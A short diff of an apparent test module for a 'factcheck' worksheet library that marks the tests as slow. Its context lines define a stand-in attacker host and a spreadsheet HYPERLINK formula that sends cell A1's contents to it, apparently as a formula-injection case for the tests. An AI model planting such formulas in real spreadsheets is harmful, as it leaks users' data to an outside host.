@@ -16,6 +16,8 @@ from factcheck import api
 from factcheck.model.worksheet import Worksheet
 from factcheck.plugin.manager import create_manager
 
+pytestmark = pytest.mark.slow  # part of make test-all: it takes minutes
+
 MANAGER = create_manager(entry_points=False)
 EVIL = "evil.example"
 FORMULA = f'HYPERLINK("http://{EVIL}/?"&A1)'
